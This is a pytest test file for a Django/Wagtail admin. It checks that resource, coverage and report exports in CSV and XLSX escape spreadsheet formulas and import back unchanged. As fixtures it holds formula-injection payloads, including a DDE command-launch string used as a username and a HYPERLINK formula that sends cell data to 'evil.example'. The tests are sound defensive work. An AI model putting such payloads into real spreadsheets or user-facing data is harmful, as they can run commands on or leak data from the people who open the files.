"""Every spreadsheet the admin writes neutralises formulas, and an export still imports back
unchanged (issue 12, finding 5): resources.csv, the coverage CSV and the reports' CSV/XLSX."""

import csv
import datetime
import io
from http import HTTPStatus

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from catalog.models import ResourcePage
from catalog.spreadsheets import FORMULA_STARTS, from_spreadsheet, spreadsheet_safe
from tests import factories

FORMULAS = ["=Equity", "-30% funding", "+1 tips", "@home", "\tTabbed", "\rReturned"]


@given(st.text())
def test_what_is_made_safe_comes_back_unchanged_and_never_starts_a_formula(value):
    safe = spreadsheet_safe(value)
    assert not safe.startswith(FORMULA_STARTS)
    assert from_spreadsheet(safe) == value


@pytest.mark.parametrize("text", ["'Twas the night", "Don't", "", "Plain title"])
def test_text_without_a_formula_is_written_as_it_is(text):
    assert spreadsheet_safe(text) == text == from_spreadsheet(text)


@pytest.fixture
def kit(db, home):
    factories.discipline("Medical", slug="medical")
    return factories.toolkit(slug="formula-kit", title="Formula kit")


def formula_resources(kit) -> list[ResourcePage]:
    return [
        factories.resource(kit, title=title, slug=f"formula-{number}", publisher=title)
        for number, title in enumerate([*FORMULAS, "'=Already quoted"])
    ]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


@pytest.mark.django_db
def test_the_resources_export_neutralises_formulas_and_imports_back_unchanged(kit, tmp_path):
    pages = formula_resources(kit)
    exported = tmp_path / "resources.csv"
    call_command("export_resources", str(exported))
    rows = cells(exported.read_bytes().decode("utf-8"))[1:]
    assert [row[2] for row in rows] == [f"'{page.title}" for page in pages]
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    output = io.StringIO()
    call_command("import_resources", str(exported), stdout=output, stderr=output)
    assert f"0 resources created, 0 updated and {len(pages)} unchanged" in output.getvalue()
    assert sorted(ResourcePage.objects.values_list("title", flat=True)) == sorted(
        page.title for page in pages
    )


@pytest.mark.django_db
def test_an_apostrophe_before_a_formula_is_taken_off_on_import(kit, admin_client):
    content = "parent,slug,title,summary,type\nformula-kit,equity,'=Equity,'-30% funding,guide\n"
    upload = SimpleUploadedFile("resources.csv", content.encode(), content_type="text/csv")
    preview = admin_client.post("/admin/catalog/import/resources/", {"file": upload})
    upload_id = preview.context["confirm_form"]["upload"].value()
    admin_client.post("/admin/catalog/import/resources/", {"upload": upload_id, "publish": "on"})
    page = ResourcePage.objects.get(slug="equity")
    assert (page.title, page.summary) == ("=Equity", "-30% funding")
    export = admin_client.get("/admin/catalog/export/resources.csv")
    exported = cells(export.content.decode("utf-8-sig"))
    assert exported[1][2:4] == ["'=Equity", "'-30% funding"]


@pytest.mark.django_db
def test_the_coverage_csv_neutralises_formulas(admin_client, home):
    discipline = factories.discipline("=SUM(A1:A9)")
    audience = factories.audience("@everyone")
    factories.resource(disciplines=[discipline], audiences=[audience])
    response = admin_client.get("/admin/reports/coverage/", {"export": "csv"})
    assert cells(response.content.decode()) == [["Discipline", "'@everyone"], ["'=SUM(A1:A9)", "1"]]


def export(admin_client, url: str, export_format: str) -> list[list]:
    response = admin_client.get(url, {"export": export_format})
    assert response.status_code == HTTPStatus.OK
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return cells(content.decode("utf-8-sig"))
    return [
        list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_reports_exports_neutralise_formulas(
    admin_client, django_user_model, kit, export_format
):
    pages = formula_resources(kit)
    # Reviewed long ago, so that they are due (the reviewer's name is a formula too).
    reviewer = django_user_model.objects.create_user("=cmd|' /C calc'!A0", password="x")
    ResourcePage.objects.filter(pk__in=[page.pk for page in pages]).update(
        last_reviewed=datetime.date(2020, 1, 1), last_reviewed_by=reviewer
    )
    for url in ("/admin/reports/due-for-review/", "/admin/reports/missing-tags/"):
        rows = export(admin_client, url, export_format)
        # (XLSX keeps a carriage return as a line feed: the apostrophe before it is what counts)
        titles = sorted(f"'{page.title}".replace("\r", "\n") for page in pages)
        assert sorted(row[0].replace("\r", "\n") for row in rows[1:]) == titles
        assert not any(str(cell).startswith(FORMULA_STARTS) for row in rows for cell in row)


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_wagtails_own_reports_exports_neutralise_formulas_too(
    admin_client, admin_user, kit, export_format
):
    """Locked pages, aging pages, site history: an editor's title reaches a moderator's
    spreadsheet as text, not as a formula."""
    page = factories.resource(kit, title='=HYPERLINK("https://evil.example/?x="&A1,"open")')
    page.locked, page.locked_by = True, admin_user
    page.save()
    for url in ("/admin/reports/locked/", "/admin/reports/aging-pages/",
                "/admin/reports/site-history/"):  # fmt: skip
        rows = export(admin_client, url, export_format)
        written = [str(cell) for row in rows[1:] for cell in row if cell]
        assert f"'{page.title}" in written, url
        assert not any(cell.startswith(FORMULA_STARTS) for cell in written), url
